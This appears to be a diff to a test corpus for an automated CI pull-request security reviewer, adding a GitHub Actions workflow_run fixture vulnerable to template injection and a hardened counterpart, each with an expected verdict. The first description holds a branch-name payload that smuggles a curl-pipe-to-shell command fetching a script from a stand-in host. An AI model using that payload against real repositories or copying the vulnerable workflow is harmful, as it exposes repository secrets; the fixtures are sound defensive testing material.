@@ -546,6 +546,70 @@ export const CI_CASES: CorpusEntry[] = [
     expect: { level: 'critical', action: 'request_changes', findings: ['gha-template-injection'], drivers: ['finding:gha-template-injection', 'author-trust'] },
   },
   {
+    id: 'ci-workflow-run-branch-through-env-expression',
+    description:
+      'The ultralytics injection (December 2024) written the way a reviewer skims past: a maintainer\'s new workflow_run report job binds the triggering run\'s head branch in env: (the documented fix) and then pastes it back with ${{ env.BRANCH }} into its run: script (which only writes a summary), where a fork\'s branch name such as `x";curl${IFS}-sSfL${IFS}evil.sh|sh;#` runs with the repository\'s secrets.',
+    fixture: ciPr(2541, {
+      title: 'ci: post coverage report after CI',
+      files: [
+        {
+          path: '.github/workflows/coverage-report.yml',
+          head: lines(
+            'name: Coverage report',
+            'on:',
+            '  workflow_run:',
+            '    workflows: [CI]',
+            '    types: [completed]',
+            'permissions: {}',
+            'jobs:',
+            '  report:',
+            '    runs-on: ubuntu-latest',
+            '    env:',
+            '      BRANCH: ${{ github.event.workflow_run.head_branch }}',
+            '    steps:',
+            '      - run: |',
+            '          echo "Coverage for ${{ env.BRANCH }}"',
+            '          echo "Run ${{ github.event.workflow_run.id }} finished: ${{ github.event.workflow_run.conclusion }}" >> "$GITHUB_STEP_SUMMARY"',
+          ),
+        },
+      ],
+    }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['gha-template-injection'], drivers: ['finding:gha-template-injection'] },
+  },
+  {
+    id: 'ci-workflow-run-env-read-as-shell-variable',
+    description:
+      "The same report job written as GitHub's hardening guide says: the branch bound in env: and read as \"$BRANCH\" by the shell; the run id and SHA, which no outsider writes, expanded with ${{ env.* }}; no permissions.",
+    fixture: ciPr(2542, {
+      title: 'ci: post coverage report after CI',
+      files: [
+        {
+          path: '.github/workflows/coverage-report.yml',
+          head: lines(
+            'name: Coverage report',
+            'on:',
+            '  workflow_run:',
+            '    workflows: [CI]',
+            '    types: [completed]',
+            'permissions: {}',
+            'jobs:',
+            '  report:',
+            '    runs-on: ubuntu-latest',
+            '    env:',
+            '      BRANCH: ${{ github.event.workflow_run.head_branch }}',
+            '      RUN_ID: ${{ github.event.workflow_run.id }}',
+            '      SHA: ${{ github.event.workflow_run.head_sha }}',
+            '    steps:',
+            '      - run: |',
+            '          echo "Coverage for $BRANCH at ${{ env.SHA }}"',
+            '          echo "Run ${{ env.RUN_ID }} finished: ${{ github.event.workflow_run.conclusion }}" >> "$GITHUB_STEP_SUMMARY"',
+          ),
+        },
+      ],
+    }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment', 'needs_discussion'], absentDrivers: ['finding:gha-template-injection'] },
+  },
+  {
     id: 'ci-issue-comment-github-script',
     description: 'A new /deploy command bot on issue_comment pastes toJSON(github.event.comment) into actions/github-script code.',
     fixture: ciPr(1955, {
